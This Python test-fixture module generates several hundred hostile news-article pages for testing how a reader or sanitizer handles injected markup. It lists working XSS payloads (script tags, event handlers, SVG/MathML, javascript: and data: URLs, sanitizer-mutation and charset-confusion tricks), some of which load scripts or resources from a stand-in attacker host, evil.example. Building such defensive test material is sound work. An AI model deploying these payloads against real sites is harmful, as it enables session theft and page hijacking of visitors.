"""Articles that attack whoever reads them: some three hundred, by class of injection and by the place they stand in.

Each is first shown to a browser as a careless page would show it (`control`): only what fires there counts. An
attack fires when it calls `fire()`, or when it makes the browser turn to `evil.example`.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from dataclasses import dataclass

EVIL = "https://evil.example"
_GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="

#: Snippets that act as soon as a browser parses them, by class. "press" is the text of what has to be clicked.
SNIPPETS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>fire()</script>",
        "<ScRiPt >fire()</sCrIpT >",
        f"<script src={EVIL}/a.js></script>",
        "<script type=module>fire()</script>",
        "<script>/*<b>*/fire()//</script>",
        "</p></article><script>fire()</script>",
        "</title></style></textarea><script>fire()</script>",
        "<!--><script>fire()</script>-->",
    ),
    "handler": (
        "<img src=x onerror=fire()>",
        "<img/src='x'/onerror=fire()>",
        "<img src=x onerror=&#102;ire&#40;&#41;>",
        "<details open ontoggle=fire()>x</details>",
        "<input autofocus onfocus=fire()>",
        "<video><source onerror=fire()></video>",
        "<audio src=x onerror=fire()></audio>",
        "<style onload=fire()></style>",
        "<iframe onload=fire()></iframe>",
        "<link rel=stylesheet href=x onerror=fire()>",
        "<object data=x onerror=fire()></object>",
        "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationend=fire()>x</b>",
        "<body onload=fire()>",
        "<a href=# onclick=fire()>press</a>",
        "<video src=x onerror=fire()></video>",
    ),
    "svg": (
        "<svg onload=fire()>",
        "<svg/onload=fire()>",
        "<svg><script>fire()</script></svg>",
        "<svg><script href=data:,fire()></script></svg>",
        "<svg><animate onbegin=fire() attributeName=x dur=1s>",
        "<svg><set onbegin=fire() attributename=x dur=1s>",
        f"<svg><image href={EVIL}/a.png width=9 height=9></image></svg>",
        f"<svg><filter id=f><feImage href={EVIL}/b.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
        "<svg><a href=javascript:fire()><text y=9>press</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=fire()></foreignObject></svg>",
    ),
    "mathml": (
        "<math><mtext><img src=x onerror=fire()></mtext></math>",
        "<math><annotation-xml encoding=text/html><script>fire()</script></annotation-xml></math>",
        "<math><mi><svg onload=fire()></mi></math>",
    ),
    "css": (
        f"<style>body{{background:url({EVIL}/c.png)}}</style>",
        f"<style>@import '{EVIL}/d.css';</style>",
        f"<b style='background:url({EVIL}/e.png)'>x</b>",
        f"<ul><li style='list-style:url({EVIL}/f.png)'>x</ul>",
        f"<style>@font-face{{font-family:f;src:url({EVIL}/g.woff)}}</style><b style='font-family:f'>x</b>",
        f"<link rel=stylesheet href={EVIL}/h.css>",
        f"<b style='background-image:image-set(\"{EVIL}/i.png\" 1x)'>x</b>",
    ),
    "srcdoc": (
        "<iframe srcdoc='<script>fire()</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=fire()&gt;'></iframe>",
        f"<iframe srcdoc='<img src={EVIL}/j.png>'></iframe>",
    ),
    "data-url": (
        "<iframe src='data:text/html,<script>fire()</script>'></iframe>",
        "<script src=data:text/javascript,fire()></script>",
        "<iframe src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22fire()%22/>'></iframe>",
        "<embed src='data:text/html,<script>fire()</script>'>",
    ),
    "javascript-url": (
        "<iframe src=javascript:fire()></iframe>",
        "<iframe src='&#106;avascript:fire()'></iframe>",
        "<a href=javascript:fire()>press</a>",
        "<a href='java&Tab;script:fire()'>press</a>",
        "<a href=' &#1; javascript:fire()'>press</a>",
        "<form action=javascript:fire()><button>press</button></form>",
        "<form><button formaction=javascript:fire()>press</button></form>",
    ),
    "foreign": (
        f"<img src={EVIL}/k.png>",
        f"<img srcset='{EVIL}/l.png 1x'>",
        f"<picture><source srcset={EVIL}/m.png><img></picture>",
        f"<video poster={EVIL}/n.png></video>",
        f"<audio src={EVIL}/o.mp3 preload=auto></audio>",
        f"<iframe src={EVIL}/p></iframe>",
        f"<object data={EVIL}/q></object>",
        f"<embed src={EVIL}/r>",
        f"<input type=image src={EVIL}/s.png>",
        f"<table background={EVIL}/t.png><tr><td>x</table>",
        f"<meta http-equiv=refresh content='0;url={EVIL}/u'>",
        f"<base href={EVIL}/><img src=v.png>",
        f"<link rel=icon href={EVIL}/w.ico><link rel=preload as=image href={EVIL}/w.png>",
        f"<a href=# ping={EVIL}/y>press</a>",
    ),
    # What these are depends on who parses them: a sanitizer sees an attribute where a browser sees a tag.
    "mutation": (
        "<svg></p><style><a id='</style><img src=1 onerror=fire()>'>",
        "<svg></p><title><a id='</title><img src=1 onerror=fire()>'>",
        "<noscript><p title='</noscript><img src=x onerror=fire()>'>",
        "<xmp><p title='</xmp><img src=x onerror=fire()>'>",
    ),
}

#: Bytes that a browser and a careless reader take for different characters: (what the page calls them, the bytes).
ENCODINGS: tuple[tuple[str, bytes], ...] = (
    ("gbk", b"\x81<script>fire()</script>"),
    ("big5", b"\x81<img src=x onerror=fire()>"),
    ("shift_jis", b"\x81<svg onload=fire()>"),
    ("euc-kr", b"\xc8<script>fire()</script>"),
    ("iso-2022-jp", b'<img alt="\x1b$B">\x1b(B" src=x onerror=fire()>'),
    ("iso-2022-jp", b'<img alt="\x1b(J" src=x onerror=fire()>'),
    ("windows-1252", b"<img src=x onerror\x0c=\x0cfire()>"),
    ("utf-8", b"\xff<script>fire()</script>\xfe"),
    ("utf-16le", "<script>fire()</script>".encode("utf-16-le")),
    ("utf-8", b"<img src=x\x00 onerror=fire()>"),
    ("utf-8", b"\xed\xa0\x80<svg/onload=fire()>"),
)

#: Where an attack stands. "markup": in the page as it is; anywhere else as text that looks like markup.
PLACES = ("markup", "paragraph", "headline", "byline", "caption", "alt", "topic", "standfirst", "title")
_IN_A_VALUE = frozenset({"alt", "standfirst"})
_WORDS = (
    "The harbour office said on Monday that the crack in the middle pier had grown since the spring of last year.",
    "Engineers will look at it each week, and the ferry will run until midnight at the fare of the old bridge toll.",
    "Nobody could say how deep it went, and the people on the far side have begun to keep boats by their doors.",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One article that attacks."""

    number: int
    kind: str
    place: str
    attack: str  #: the text of the attack; of an encoding the bytes as latin-1
    charset: str = "utf-8"

    @property
    def name(self) -> str:
        """Its name in the paper."""
        return f"case-{self.number:03}"

    @property
    def has_to_be_pressed(self) -> bool:
        """Does it act only when it is clicked?"""
        return "press" in self.attack

    def control(self) -> bytes:
        """Return a careless page: what a reader that escapes nothing would show."""
        if self.kind == "encoding":
            return _encoded("<!doctype html><body>", self.charset) + self.attack.encode("latin-1")
        shown = f'<img alt="{self.attack}">' if self.place in _IN_A_VALUE else f"<div>{self.attack}</div>"
        # A careless sanitizer: parsed, written out, parsed again.
        twice = "<script>let d=document.querySelector('#at');d.innerHTML=d.innerHTML</script>"
        inner = f"<div id=at>{shown}</div>{twice}" if self.kind == "mutation" else shown
        return f"<!doctype html><meta charset=utf-8><body>{inner}</body>".encode("utf-8", "surrogatepass")

    def page(self, *, edited: bool = False) -> bytes:
        """Return the publisher's page; *edited*: as it stands at the second look."""
        if self.kind == "encoding":
            meta = f"<meta charset={self.charset}>"
            before, after = _page("A Page in Its Own Encoding", meta, "", edited=edited).split("<!--here-->")
            return (
                _encoded(before, self.charset) + self.attack.encode("latin-1") + _encoded(after, self.charset)
            )
        raw = self.attack if self.place == "markup" else ""
        told = html.escape(self.attack)
        parts = {place: told if self.place == place else "" for place in PLACES}
        head = f'<meta charset=utf-8><meta name=description content="{parts["standfirst"]}">'
        head += f'<meta property="article:tag" content="{parts["topic"]}">'
        headline = parts["headline"] or parts["title"] or f"The Pier, Seen for the {self.number}th Time"
        by = f"By {parts['byline'] or 'Ada Marsh'}"
        figure = (
            f'<figure><img src="/i/{self.name}.png" alt="{parts["alt"]}" width=640 height=480>'
            f"<figcaption>The pier at dawn. {parts['caption']}</figcaption></figure>"
        )
        own = f"<p>{parts['paragraph']}</p>" if parts["paragraph"] else ""
        return (
            _page(headline, head, figure + own + raw, by=by, edited=edited)
            .replace("<!--here-->", "")
            .encode()
        )


def _encoded(text: str, charset: str) -> bytes:
    return text.encode("utf-16-le") if charset == "utf-16le" else text.encode("ascii")


def _page(headline: str, head: str, inner: str, *, by: str = "By Ada Marsh", edited: bool) -> str:
    words = (_WORDS[0].replace("Monday", "Tuesday"), *_WORDS[1:]) if edited else _WORDS
    told = "".join(f"<p>{one}</p>" for one in words)
    return (
        f"<!doctype html><html lang=en><head>{head}<title>{headline}</title></head><body><article>"
        f"<h1>{headline}</h1><p class=byline>{by}</p>{told}{inner}<!--here--></article></body></html>"
    )


def hostile_articles() -> Iterator[Hostile]:
    """Yield them all: each snippet as markup and as text, and in other places in turn; then the encodings."""
    number = 0
    others = [place for place in PLACES if place not in {"markup", "paragraph"}]
    for at, (kind, attack) in enumerate((kind, one) for kind, found in SNIPPETS.items() for one in found):
        turn = [others[(at + step) % len(others)] for step in range(2)]
        for place in ("markup", "paragraph", *turn):
            broken_out = f'">{attack}' if place in _IN_A_VALUE else attack
            yield Hostile(number, kind, place, broken_out)
            number += 1
    for charset, data in ENCODINGS:
        yield Hostile(number, "encoding", "markup", data.decode("latin-1"), charset)
        number += 1
